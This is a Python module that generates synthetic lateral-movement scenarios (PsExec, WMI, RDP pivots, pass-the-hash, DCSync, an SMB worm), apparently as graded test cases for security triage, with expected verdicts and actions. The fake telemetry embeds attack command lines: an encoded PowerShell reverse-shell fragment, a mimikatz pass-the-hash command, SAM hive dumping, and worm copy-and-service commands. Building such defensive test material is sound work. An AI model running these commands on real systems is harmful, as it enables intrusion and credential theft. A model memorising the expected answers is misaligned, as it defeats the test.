"""lateral_movement stories: PsExec, WMI, RDP pivots, pass-the-hash, worms."""

from __future__ import annotations

from datetime import datetime, timedelta

from devtools.builtin_suite.scenes import (
    defender_psexec,
    edr_process,
    encoded,
    psexec_copy,
    psexesvc_shell,
    rdp_logon_alert,
)
from devtools.builtin_suite.story import WORKDAYS, Story, clock, forbid_defaults, template
from devtools.northwind import (
    ADMINS,
    APP_SERVERS,
    DOMAIN,
    FILE_SERVERS,
    NETBIOS,
    OFFICE_STAFF,
    PEOPLE,
    SIGNED,
    WIN_SERVER,
    asset,
    laptop,
    managed_by,
)
from devtools.vendor_records.common import EXPLORER, SERVICES, Proc, Record, sid_of, winproc
from devtools.vendor_records.crowdstrike import crowdstrike_detection, falcon_ml_detection
from devtools.vendor_records.elastic import elastic_alert
from devtools.vendor_records.microsoft import defender_alert, dv_device, dv_process, dv_user
from devtools.vendor_records.suricata import suricata_alert
from devtools.vendor_records.wazuh import (
    logon_data,
    logon_event,
    wazuh_alert,
    wazuh_rdp_logon,
    win_event,
)
from tierzero.tools.inventory import (
    Asset,
)

# ============================================================================================
# lateral_movement
# ============================================================================================


def ntlm_logon(at: datetime, dst: Asset, user: str, src: Asset) -> Record:
    """Wazuh: a network logon with NTLM (rule 92652, "possible pass-the-hash")."""
    return wazuh_alert(
        at,
        dst,
        rule_id="92652",
        level=6,
        description=f"Successful Remote Logon Detected - User:\\{NETBIOS}\\{user} - NTLM "
        "authentication, possible pass-the-hash attack.",
        groups=["win_evt_channel", "windows", "authentication_success"],
        techniques=["T1550.002", "T1078.002"],
        data=logon_event(at, dst, logon_data(user, source_ip=src.ips[0], workstation=src.hostname)),
    )


@template("lateral_movement", 5)
def psexec_stolen_credentials(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    server = asset(s.pick(FILE_SERVERS + APP_SERVERS))
    share = s.pick(("Finance$", "Operations$", "Shared$", "HR$"))
    s.start(s.workday_time() if i != 4 else s.evening_time())
    s.title = f"PsExec with {user.name}'s credentials from {ws.hostname} to {server.hostname}"
    s.description = (
        f"An attacker on {ws.hostname} uses {user.user}'s credentials (NTLM, pass-the-hash) to "
        f"run PsExec against {server.hostname}, which {user.first} has no business on, and "
        f"explores the {share} share."
    )
    techniques = ["T1021.002", "T1569.002", "T1550.002"]
    if i in (1, 3):
        net = winproc(
            "net.exe",
            f"net.exe view \\\\{server.hostname} /all",
            winproc("cmd.exe", "cmd.exe", EXPLORER),
        )
        s.add(
            "elastic-share-discovery",
            s.at(-6),
            edr_process(
                "elastic",
                s.at(-6),
                ws,
                user=user.user,
                title="Network Share Discovery via net.exe",
                description="net.exe listed the shares of a server.",
                level=2,
                proc=net,
                techniques=["T1135"],
            ),
        )
        techniques.append("T1135")
    s.alert("suricata-psexec", s.at(0), psexec_copy, ws, server)
    s.alert("wazuh-ntlm-logon", s.at(0.2), ntlm_logon, server, user.user, ws)
    s.alert(
        "wazuh-psexec-shell",
        s.at(0.5),
        psexesvc_shell,
        server,
        user.user,
        f'cmd.exe /c "whoami /all & net share & dir \\\\{server.hostname}\\{share}"',
    )
    if i % 2 == 0:
        s.alert("defender-psexec", s.at(2), defender_psexec, server, ws, user.user)
    s.case(
        "lateral-movement",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["suricata-psexec", "wazuh-psexec-shell"],
        actions=[
            ("isolate_host", ws.hostname),
            ("isolate_host", server.hostname),
            ("disable_user", user.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["PSEXESVC.exe"]), ("block_hash", SIGNED["cmd.exe"]))


@template("lateral_movement", 4)
def wmi_remote_execution(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    server = asset(s.pick(FILE_SERVERS + APP_SERVERS))
    s.start(s.workday_time())
    s.title = f"WMI remote execution from {ws.hostname} on {server.hostname}"
    s.description = (
        f"An attacker on {ws.hostname} uses wmic with {user.user}'s credentials to start an "
        f"encoded PowerShell on {server.hostname}."
    )
    payload = "powershell -nop -w hidden -enc " + encoded(
        "$c=New-Object Net.Sockets.TCPClient('" + ws.ips[0] + "',8443)"
    )
    wmic = winproc(
        "wmic.exe",
        f'wmic.exe /node:{server.hostname} process call create "{payload}"',
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.alert(
        "falcon-wmic",
        s.at(0),
        crowdstrike_detection,
        ws,
        user=user.user,
        name="Suspicious Activity",
        description="wmic.exe created a process on a remote host.",
        level=4,
        proc=wmic,
        techniques=["T1047"],
    )
    remote = winproc(
        "powershell.exe",
        payload,
        Proc(
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        ),
    )
    s.alert(
        "elastic-wmi-child",
        s.at(0.5),
        elastic_alert,
        rule="Remote Execution via WMI",
        level=4,
        techniques=["T1047", "T1059.001"],
        description="Identifies WmiPrvSE.exe starting a process after a remote WMI call.",
        host=server,
        user=user.user,
        process=remote,
        reason=f"process event with process powershell.exe, parent process WmiPrvSE.exe, by "
        f"{user.user} on {server.hostname}.",
        source={"ip": ws.ips[0]},
        event={"category": ["process"], "type": ["start"], "action": "start"},
    )
    if i % 2 == 0:
        s.alert("wazuh-network-logon", s.at(0.1), ntlm_logon, server, user.user, ws)
    if i == 2:
        s.alert(
            "defender-wmi",
            s.at(2),
            defender_alert,
            title="Suspicious WMI process creation",
            level=3,
            description="A process was created through WMI from another device.",
            category="Execution",
            techniques=["T1047"],
            evidence=[
                dv_device(server),
                dv_device(ws, roles=("source",)),
                dv_user(user.user),
                dv_process(remote, user.user, s.at(2)),
            ],
        )
    s.case(
        "wmi-lateral-movement",
        s.refs(),
        "true_positive",
        techniques=["T1047", "T1059.001"],
        evidence=["falcon-wmic", "elastic-wmi-child"],
        actions=[
            ("isolate_host", ws.hostname),
            ("isolate_host", server.hostname),
            ("disable_user", user.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["wmic.exe"]), ("block_hash", SIGNED["powershell.exe"]))


@template("lateral_movement", 4)
def rdp_pivot(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    servers = [
        asset(h)
        for h in s.sample(
            ("SRV-APP-03", "SRV-APP-04", "SRV-FS-01", "SRV-FS-02", "SRV-JUMP-01"), 2 + i % 2
        )
    ]
    s.start(s.evening_time())
    s.title = f"{user.name}'s account hops by RDP across {len(servers)} servers in the evening"
    s.description = (
        f"At {s.t0:%H:%M}, {user.user} (no administrator of anything) opens RDP sessions from "
        f"{ws.hostname} to {', '.join(a.hostname for a in servers)} and enumerates the domain "
        "admins."
    )
    for k, server in enumerate(servers):
        s.alert(
            f"elastic-rdp-{server.hostname}", s.at(k * 6), rdp_logon_alert, server, user.user, ws
        )
    first = servers[0]
    when = s.at(0.3)
    s.alert("wazuh-rdp-logon", when, wazuh_rdp_logon, first, user.user, ws, level=6)
    last = servers[-1]
    net = winproc(
        "net.exe", 'net.exe group "Domain Admins" /domain', winproc("cmd.exe", "cmd.exe", EXPLORER)
    )
    minute = len(servers) * 6 + 2
    s.add(
        "edr-domain-admins",
        s.at(minute),
        edr_process(
            ("crowdstrike", "elastic", "wazuh", "defender")[i],
            s.at(minute),
            last,
            user=user.user,
            title="Enumeration of Domain Admins",
            description="net.exe listed the members of the Domain Admins group.",
            level=3,
            proc=net,
            techniques=["T1087.002"],
        ),
    )
    techniques = ["T1021.001", "T1078.002", "T1087.002"]
    if i == 3:
        nltest = winproc(
            "nltest.exe", f"nltest.exe /dclist:{DOMAIN}", winproc("cmd.exe", "cmd.exe", EXPLORER)
        )
        s.alert(
            "falcon-dc-discovery",
            s.at(minute + 1),
            crowdstrike_detection,
            last,
            user=user.user,
            name="Suspicious Activity",
            description="nltest listed the domain controllers.",
            level=3,
            proc=nltest,
            techniques=["T1018"],
        )
        techniques.append("T1018")
    s.case(
        "rdp-pivot",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=[f"elastic-rdp-{first.hostname}", "edr-domain-admins"],
        actions=[("disable_user", user.user), ("isolate_host", ws.hostname)],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["net.exe"]))


@template("lateral_movement", 4)
def pass_the_hash_dc(s: Story, i: int) -> None:
    admin = ADMINS[i % len(ADMINS)]
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    dc = asset(("DC-01", "DC-02")[i % 2])
    s.start(s.workday_time())
    s.title = f"Pass-the-hash with {admin.user}'s hash from {ws.hostname} to {dc.hostname}"
    s.description = (
        f"Malware on {ws.hostname} ({user.name}'s laptop) uses the NTLM hash of "
        f"{admin.user}, stolen earlier, to authenticate to {dc.hostname}"
        + (" and replicates directory secrets (DCSync)." if i in (0, 2) else ".")
    )
    techniques = ["T1550.002", "T1078.002"]
    if i == 3:
        tool = Proc(
            "C:\\Users\\Public\\m64.exe",
            f'm64.exe "sekurlsa::pth /user:{admin.user} '
            f'/domain:{NETBIOS.lower()} /ntlm:{s.hex(32)}" exit',
            s.sha256(),
            winproc("cmd.exe", "cmd.exe", EXPLORER),
        )
        s.alert(
            "falcon-pth-tool",
            s.at(-1),
            crowdstrike_detection,
            ws,
            user=user.user,
            name="Credential Theft",
            description="A process started another with a forged logon session from an NTLM "
            "hash (pass-the-hash).",
            level=5,
            proc=tool,
            techniques=["T1550.002"],
        )
    s.alert(
        "defender-pth",
        s.at(0),
        defender_alert,
        title="Suspected identity theft (pass-the-hash) (external ID 2017)",
        level=4,
        description=f"{admin.user}'s hash was used from {ws.hostname}, a device the account "
        "does not use.",
        category="LateralMovement",
        techniques=["T1550.002"],
        source="microsoftDefenderForIdentity",
        evidence=[dv_device(ws), dv_user(admin.user), dv_device(dc, roles=("attacked",))],
    )
    s.alert("wazuh-ntlm-dc", s.at(0.2), ntlm_logon, dc, admin.user, ws)
    if i in (0, 2):
        s.alert(
            "defender-dcsync",
            s.at(3),
            defender_alert,
            title="Suspected DCSync attack (replication of directory services) (external ID 2006)",
            level=4,
            description=f"{ws.hostname} requested directory replication as {admin.user}.",
            category="CredentialAccess",
            techniques=["T1003.006"],
            source="microsoftDefenderForIdentity",
            evidence=[dv_device(ws), dv_user(admin.user), dv_device(dc, roles=("attacked",))],
        )
        techniques.append("T1003.006")
    s.case(
        "pass-the-hash",
        s.refs(),
        "true_positive",
        techniques=techniques,
        evidence=["defender-pth", "wazuh-ntlm-dc", *s.refs("defender-dcsync")],
        actions=[
            ("isolate_host", ws.hostname),
            ("reset_password", admin.user),
            ("revoke_sessions", admin.user),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", dc.hostname))


@template("lateral_movement", 3)
def admin_night_psexec(s: Story, i: int) -> None:
    admin = (PEOPLE["bob.nguyen"], PEOPLE["priya.shah"], PEOPLE["bob.nguyen"])[i]
    ws = laptop(admin)
    managed = [
        h
        for h in managed_by(admin)
        if h.startswith("SRV-") and asset(h).os == WIN_SERVER and not asset(h).crown_jewel
    ]
    first, second = (asset(h) for h in s.sample(managed, 2))
    s.difficulty = "hard"
    s.start(s.night_time())
    backdoor = s.pick(("support_tmp", "svc-monitor2", "adm_backup", "helpdesk01"))
    s.title = f"{admin.name}'s account runs PsExec on servers at {s.t0:%H:%M} on a {s.t0:%A}"
    s.description = (
        f"{admin.user} administers {first.hostname} and {second.hostname}, and PsExec from "
        f"{ws.hostname}, their own laptop, is how they work. But it is {s.t0:%A} "
        f"{s.t0:%H:%M}, no change is planned, and the sessions create a local account "
        f"'{backdoor}' and pack the file shares into a password-protected archive: the laptop "
        "is compromised."
    )
    s.alert("suricata-psexec-1", s.at(0), psexec_copy, ws, first)
    s.alert("defender-psexec", s.at(1), defender_psexec, first, ws, admin.user)
    when = s.at(2)
    s.alert(
        "wazuh-account-created",
        when,
        wazuh_alert,
        first,
        rule_id="60109",
        level=8,
        description="User account enabled or created",
        groups=["windows", "win_security", "adduser", "account_changed"],
        techniques=["T1136.001"],
        data=win_event(
            when,
            first,
            provider="Microsoft-Windows-Security-Auditing",
            event_id="4720",
            message="A user account was created.",
            eventdata={
                "targetUserName": backdoor,
                "targetDomainName": first.hostname,
                "subjectUserName": admin.user,
                "subjectDomainName": NETBIOS,
                "subjectUserSid": sid_of(admin.user),
            },
        ),
    )
    s.alert("suricata-psexec-2", s.at(9), psexec_copy, ws, second)
    s.alert(
        "wazuh-psexec-archive",
        s.at(10),
        psexesvc_shell,
        second,
        admin.user,
        f'cmd.exe /c "C:\\PerfLogs\\rar.exe a -hp{s.hex(8)} '
        f'C:\\PerfLogs\\{s.hex(4)}.rar D:\\Shares"',
    )
    s.case(
        "stolen-admin-psexec",
        s.refs(),
        "true_positive",
        techniques=["T1078.002", "T1021.002", "T1569.002", "T1136.001", "T1560.001"],
        evidence=["defender-psexec", "wazuh-account-created", "wazuh-psexec-archive"],
        actions=[("isolate_host", ws.hostname), ("disable_user", admin.user)],
    )
    forbid_defaults(s)
    s.forbid(("block_hash", SIGNED["PSEXESVC.exe"]))


@template("lateral_movement", 3)
def smb_worm_spread(s: Story, i: int) -> None:
    patient_zero = s.pick(OFFICE_STAFF)
    source = laptop(patient_zero)
    targets = [laptop(p) for p in s.others(OFFICE_STAFF, patient_zero, count=3 + i % 2)]
    payload = s.sha256()
    name = s.pick(("mssecsvc.exe", "tasksche.exe", "winupd32.exe", "spoolsv64.exe"))
    s.start(s.workday_time())
    s.title = f"Worm spreads from {source.hostname} to {len(targets)} laptops over SMB"
    s.description = (
        f"{name} on {source.hostname} copies itself to the ADMIN$ share of "
        f"{len(targets)} other laptops (local admin rights reused across the fleet) and starts "
        "there as a service."
    )
    copier = winproc(
        "cmd.exe",
        f"cmd.exe /c copy C:\\Windows\\{name} \\\\{targets[0].hostname}"
        f"\\ADMIN$ & sc \\\\{targets[0].hostname} create {name[:-4]} binPath= "
        f"C:\\Windows\\{name}",
        Proc(f"C:\\Windows\\{name}", name, payload, SERVICES),
    )
    s.alert(
        "falcon-spreader",
        s.at(0),
        crowdstrike_detection,
        source,
        user=patient_zero.user,
        name="Lateral Tool Transfer",
        description="A process copied an executable to remote admin shares and created "
        "services that run it.",
        level=5,
        proc=copier,
        techniques=["T1570", "T1569.002"],
    )
    for k, target in enumerate(targets):
        when = s.at(1 + k)
        s.alert(
            f"suricata-smb-{target.hostname}",
            when,
            suricata_alert,
            src=source.ips[0],
            dst=target.ips[0],
            dport=445,
            sid=2025709,
            signature="ET POLICY SMB2 NT Create AndX Request For an Executable File",
            category="Potential Corporate Privacy Violation",
            priority=2,
            techniques=["T1570"],
            app_proto="smb",
            extra={
                "smb": {
                    "command": "SMB2_COMMAND_CREATE",
                    "filename": name,
                    "share": f"\\\\{target.hostname}\\ADMIN$",
                }
            },
        )
        s.alert(
            f"falcon-malware-{target.hostname}",
            when + timedelta(seconds=20),
            falcon_ml_detection,
            target,
            user="SYSTEM",
            proc=Proc(
                f"C:\\Windows\\{name}", f"C:\\Windows\\{name} -m security", payload, SERVICES
            ),
            sha256=payload,
            level=5,
        )
    s.case(
        "smb-worm",
        s.refs(),
        "true_positive",
        techniques=["T1570", "T1021.002", "T1569.002"],
        evidence=["falcon-spreader", f"falcon-malware-{targets[0].hostname}"],
        actions=[
            ("block_hash", payload),
            ("isolate_host", source.hostname),
            *(("isolate_host", t.hostname) for t in targets),
        ],
    )
    forbid_defaults(s)
    s.forbid(("isolate_host", "SRV-DB-01"), ("block_hash", SIGNED["cmd.exe"]))


@template("lateral_movement", 3)
def rdp_among_admin_noise(s: Story, i: int) -> None:
    user = s.pick(OFFICE_STAFF)
    ws = laptop(user)
    target = asset(("SRV-APP-04", "SRV-FS-02", "SRV-APP-03")[i])
    s.difficulty = "hard"
    day = s.pick(WORKDAYS[3:])
    s.start(clock(day, 12, s.rng.randint(0, 50)))
    s.title = f"One RDP logon by {user.name} to {target.hostname} among two days of admin logons"
    s.description = (
        "For two days the administrators log on to the servers they manage, each logon a low "
        f"alert. At lunchtime, {user.user}, who manages nothing, logs on to {target.hostname} "
        "from their laptop and saves the SAM registry hive."
    )
    noise: list[str] = []
    for admin in ADMINS[:2]:
        mine = [h for h in managed_by(admin) if asset(h).os == WIN_SERVER]
        for day_offset in (-1, 0):
            for _ in range(s.rng.randint(3, 5)):
                when = clock(
                    day + timedelta(days=day_offset), s.rng.randint(8, 16), s.rng.randint(0, 59)
                ) + timedelta(seconds=s.rng.randint(0, 59))
                if day_offset == 0 and abs((when - s.t0).total_seconds()) < 3 * 3600:
                    continue  # keep the admins' logons hours away from the intrusion
                server = asset(s.pick(mine))
                noise.append(
                    s.alert(
                        f"admin-logon-{admin.user}-{len(noise) + 1:02d}",
                        when,
                        rdp_logon_alert,
                        server,
                        admin.user,
                        laptop(admin),
                    )
                )
    s.alert("elastic-rdp-intruder", s.at(0), rdp_logon_alert, target, user.user, ws)
    save = winproc(
        "reg.exe",
        f"reg.exe save HKLM\\SAM C:\\Users\\{user.user}\\AppData\\Local\\Temp\\{s.hex(4)}.hiv",
        winproc("cmd.exe", "cmd.exe", EXPLORER),
    )
    s.alert(
        "falcon-sam-dump",
        s.at(6),
        crowdstrike_detection,
        target,
        user=user.user,
        name="Credential Dumping",
        description="reg.exe saved the SAM hive, which holds local password hashes.",
        level=4,
        proc=save,
        techniques=["T1003.002"],
    )
    s.case(
        "intrusion",
        ["elastic-rdp-intruder", "falcon-sam-dump"],
        "true_positive",
        techniques=["T1021.001", "T1078.002", "T1003.002"],
        evidence=["elastic-rdp-intruder", "falcon-sam-dump"],
        actions=[
            ("disable_user", user.user),
            ("isolate_host", ws.hostname),
            ("isolate_host", target.hostname),
        ],
    )
    s.case("admin-logons", noise, "benign_positive", evidence=noise[:1])
    forbid_defaults(s)
    s.forbid(*(("disable_user", a.user) for a in ADMINS[:2]), ("block_hash", SIGNED["reg.exe"]))
